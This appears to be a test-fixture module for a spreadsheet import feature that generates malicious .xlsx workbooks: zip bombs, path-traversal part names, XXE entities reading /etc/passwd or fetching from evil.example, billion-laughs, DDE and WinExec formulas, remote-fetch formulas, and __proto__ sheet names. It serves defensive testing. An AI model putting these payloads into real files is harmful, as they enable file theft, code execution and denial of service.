import {strToU8, unzipSync, zipSync} from 'fflate';
import {createModel, workbookFile} from '../../../workbench/index';
import type {Attack} from '../attack';

/** The text parts of a workbook, by their paths. */
export type Parts = Readonly<Record<string, string>>;

/** A file that somebody opens. */
export interface WorkbookAttack extends Attack {
  readonly bytes: (plain: Parts) => Uint8Array;
  /** What is told instead of opening it; without it, it opens. */
  readonly told?: RegExp;
}

/** A workbook as the page saves it, with `1`, `hi` and a formula in it. */
export async function plainParts(): Promise<Parts> {
  const cells = {A1: '1', B1: 'hi', C1: '=A1*2'};
  const data = {sheets: [{id: 's', name: 'Sheet1', rowNumber: 10, colNumber: 5, cells}]};
  const model = createModel(data, {clock: {now: () => new Date(0), timeZone: 'UTC'}});
  const decoder = new TextDecoder();
  const parts = Object.entries(unzipSync(await workbookFile(model)));
  return Object.fromEntries(parts.map(([path, bytes]) => [path, decoder.decode(bytes)]));
}

const zip = (parts: Parts): Uint8Array =>
  zipSync(Object.fromEntries(Object.entries(parts).map(([path, text]) => [path, strToU8(text)])));

const SHEET = 'xl/worksheets/sheet0.xml';
const BOOK = 'xl/workbook.xml';
const RELS = 'xl/_rels/workbook.xml.rels';
const TYPES = '[Content_Types].xml';
const NO_FILE = /^x\.xlsx is no \.xlsx file that can be read\. Save it anew/;
const TAKEN = /^x\.xlsx has a sheet called \w+, a name that means something else here\. Rename/;
const TOO_LARGE = /^x\.xlsx has more cells than Google Sheets holds/;

type Make = WorkbookAttack['bytes'];
const changed =
  (path: string, change: (text: string) => string): Make =>
  plain =>
    zip({...plain, [path]: change(plain[path] ?? '')});
const withCells = (cells: string, more = ''): Make =>
  changed(SHEET, text => text.replace(/<sheetData>.*<\/sheetData>/s, () => `<sheetData>${cells}</sheetData>${more}`));
const withFormula = (formula: string): Make => withCells(`<row r="1"><c r="A1"><f>${formula}</f><v>1</v></c></row>`);
const named = (name: string): Make => changed(BOOK, text => text.replace('name="Sheet1"', () => `name="${name}"`));
const without =
  (gone: string): Make =>
  plain =>
    zip(Object.fromEntries(Object.entries(plain).filter(([path]) => path !== gone)));
const withPart =
  (path: string, text: string): Make =>
  plain =>
    zip({...plain, [path]: text});
const withType = (doctype: string, use: string): Make =>
  changed(SHEET, text =>
    text.replace('<worksheet', `<!DOCTYPE x [${doctype}]><worksheet`).replace('<sheetData>', `${use}<sheetData>`),
  );

/** A zip whose directory says of a part that unpacks to much that it unpacks to little. */
function lyingBomb(plain: Parts): Uint8Array {
  const bytes = zip({...plain, 'xl/bomb.xml': ' '.repeat(50 * 2 ** 20)});
  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  for (let at = 0; at + 46 < bytes.length; at++) {
    if (view.getUint32(at, true) === 0x02014b50 && view.getUint32(at + 24, true) === 50 * 2 ** 20) {
      view.setUint32(at + 24, 10, true);
    }
  }
  return bytes;
}

/** Many parts of 100 MB each, which are a few hundred kilobytes packed. */
function bomb(plain: Parts): Uint8Array {
  const large = new Uint8Array(100 * 2 ** 20);
  const others = Object.entries(plain).map(([path, text]) => [path, strToU8(text)] as const);
  const bombs = Array.from({length: 5}, (_, at) => [`xl/bomb${at}.xml`, large] as const);
  return zipSync(Object.fromEntries([...others, ...bombs]));
}

/** No object of ours has such a part, so its name is put in afterwards. */
function renamedPart(plain: Parts): Uint8Array {
  const bytes = Buffer.from(zip({...plain, 'proto.xml': '<x/>'}));
  return Buffer.from(bytes.toString('latin1').replaceAll('proto.xml', '__proto__'), 'latin1');
}

const lol = Array.from({length: 9}, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('');

const row = (inner: string, number: number | string = 1): string => `<row r="${number}">${inner}</row>`;
const FETCHED = 'run, or fetch anything';
const WRITTEN = 'be written anywhere';
const MEMORY = 'fill the memory or hang';
const BROKEN = 'open, or be refused without a sentence';

const rows: readonly (readonly [name: string, mustNot: string, bytes: Make, told?: RegExp])[] = [
  ['not a zip', BROKEN, () => strToU8('Date,Customer'), NO_FILE],
  ['nothing', BROKEN, () => new Uint8Array(), NO_FILE],
  ['half a zip', BROKEN, plain => zip(plain).slice(0, 700), NO_FILE],
  ['a zip without its beginning', BROKEN, plain => zip(plain).slice(300), NO_FILE],
  ['a zip with other bytes in its middle', BROKEN, plain => zip(plain).fill(0xff, 40, 400), NO_FILE],
  ['an old .xls', BROKEN, () => Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), NO_FILE],
  ['a zip bomb', MEMORY, bomb, /^x\.xlsx unpacks to more than 400 MB/],
  ['a zip bomb that lies about its size', MEMORY, lyingBomb, NO_FILE],
  ['a part outside the file', WRITTEN, withPart('../../../../tmp/got.xml', '<x/>')],
  ['a part at the root', WRITTEN, withPart('/tmp/got.xml', '<x/>')],
  ['a part with backslashes', WRITTEN, withPart('..\\..\\got.xml', '<x/>')],
  ['a part called __proto__', BROKEN, renamedPart],
  ['an entity of a file', FETCHED, withType('<!ENTITY a SYSTEM "file:///etc/passwd">', '&a;'), NO_FILE],
  ['an entity of a site', FETCHED, withType('<!ENTITY a SYSTEM "https://evil.example/a">', '&a;'), NO_FILE],
  ['a parameter entity', FETCHED, withType('<!ENTITY % a SYSTEM "https://evil.example/a"> %a;', ''), NO_FILE],
  ['a billion laughs', MEMORY, withType(`<!ENTITY l0 "lol">${lol}`, '&l9;'), NO_FILE],
  ['a document type in small letters', BROKEN, changed(SHEET, text => `<!doctype x>${text}`), NO_FILE],
  [
    'a stylesheet of a site',
    FETCHED,
    changed(SHEET, text => text.replace('<worksheet', '<?xml-stylesheet href="https://evil.example/a"?><worksheet')),
  ],
  ...[TYPES, BOOK, RELS, SHEET, 'xl/styles.xml'].map(
    part => [`a file without ${part}`, BROKEN, without(part), NO_FILE] as const,
  ),
  ['a file without its shared texts', BROKEN, without('xl/sharedStrings.xml'), NO_FILE],
  ['a part that is no XML', BROKEN, changed(SHEET, () => '<worksheet><sheetData>'), NO_FILE],
  ['a hundred thousand levels', MEMORY, withCells('<x>'.repeat(100_000) + '</x>'.repeat(100_000)), NO_FILE],
  [
    'relationships that lead back',
    MEMORY,
    changed(RELS, text => text.replace(/Target="[^"]*"/g, 'Target="workbook.xml"')),
    NO_FILE,
  ],
  [
    'relationships to themselves',
    MEMORY,
    changed(RELS, text => text.replace(/Target="[^"]*"/g, 'Target="_rels/workbook.xml.rels"')),
    NO_FILE,
  ],
  [
    'relationships to a site',
    FETCHED,
    changed(RELS, text => text.replace(/Target="[^"]*"/g, 'Target="https://evil.example/a" TargetMode="External"')),
    NO_FILE,
  ],
  ['no sheets', BROKEN, changed(BOOK, text => text.replace(/<sheet [^>]*>/, '')), NO_FILE],
  ['a macro', FETCHED, withPart('xl/vbaProject.bin', 'Sub Auto_Open()')],
  ['a custom ribbon', FETCHED, withPart('customUI/customUI.xml', '<customUI onLoad="got"/>')],
  [
    'a connection',
    FETCHED,
    withPart(
      'xl/connections.xml',
      '<connections><connection><webPr url="https://evil.example/a"/></connection></connections>',
    ),
  ],
  ['a link to another file', FETCHED, withFormula('[1]Sheet1!A1')],
  ['DDE', FETCHED, withFormula("cmd|'/C calc'!A0")],
  ['IMPORTDATA', FETCHED, withFormula('IMPORTDATA("https://evil.example/a")')],
  ['IMPORTXML', FETCHED, withFormula('IMPORTXML("https://evil.example/a","//a")')],
  ['WEBSERVICE', FETCHED, withFormula('WEBSERVICE("https://evil.example/a")')],
  ['IMAGE', FETCHED, withFormula('IMAGE("https://evil.example/a.png")')],
  ['HYPERLINK', FETCHED, withFormula('HYPERLINK("javascript:fetch(1)","got")')],
  ['CALL', FETCHED, withFormula('CALL("Kernel32","WinExec","JCJ","calc",0)')],
  [
    'a formula in a text',
    FETCHED,
    changed('xl/sharedStrings.xml', text => text.replace('hi', '=IMPORTDATA("https://evil.example/a")')),
  ],
  ['a circle', MEMORY, withFormula('A1+1')],
  ['a formula of a thousand levels', MEMORY, withFormula(`${'('.repeat(1_000)}1${')'.repeat(1_000)}`)],
  ['a cell in the last row of Excel', MEMORY, withCells(row('<c r="A1048576"><v>1</v></c>', 1_048_576)), TOO_LARGE],
  ['a row beyond every sheet', MEMORY, withCells(row('<c r="A1"><v>1</v></c>', 1_000_000_000)), TOO_LARGE],
  ['a row of digits as entities', MEMORY, withCells(row('<c r="A1"><v>1</v></c>', '&#49;000000000')), TOO_LARGE],
  [
    'a row behind what looks like the end',
    MEMORY,
    withCells(`<row spans=">" r='1000000000'><c r="A1"/></row>`),
    TOO_LARGE,
  ],
  ['a column beyond every sheet', MEMORY, withCells(row('<c r="ZZZZZZ1"><v>1</v></c>')), TOO_LARGE],
  ['a cell at no place', BROKEN, withCells(row('<c r="!!"><v>1</v></c>')), TOO_LARGE],
  [
    'a merge of a whole sheet',
    MEMORY,
    withCells(row(''), '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
    TOO_LARGE,
  ],
  [
    'a billion widths',
    MEMORY,
    changed(SHEET, text => text.replace('<cols>', '<cols><col min="1" max="1000000000" width="5"/>')),
    TOO_LARGE,
  ],
  ['a row before the first', BROKEN, withCells(row('<c r="A1"><v>1</v></c>', -5))],
  ['a sheet called as markup', FETCHED, named('&lt;img src=x onerror=fetch(1)&gt;')],
  ['a sheet called __proto__', BROKEN, named('__proto__'), TAKEN],
  ['a sheet called constructor', BROKEN, named('constructor'), TAKEN],
  ['a sheet called __proto__ in entities', BROKEN, named('__&#112;roto__'), TAKEN],
  ['a sheet called as a formula', FETCHED, named('=IMPORTDATA(1)')],
  ['a sheet called as a path', WRITTEN, named('../../got')],
  ['a sheet called by bidi controls', BROKEN, named('\u202egnp')],
  ['a sheet without a name', BROKEN, named(''), NO_FILE],
  ['a sheet of a name of ten thousand characters', BROKEN, named('x'.repeat(10_000))],
];

export const WORKBOOK_ATTACKS: readonly WorkbookAttack[] = rows.map(([name, mustNot, bytes, told]) => ({
  name,
  mustNot,
  bytes,
  ...(told && {told}),
}));
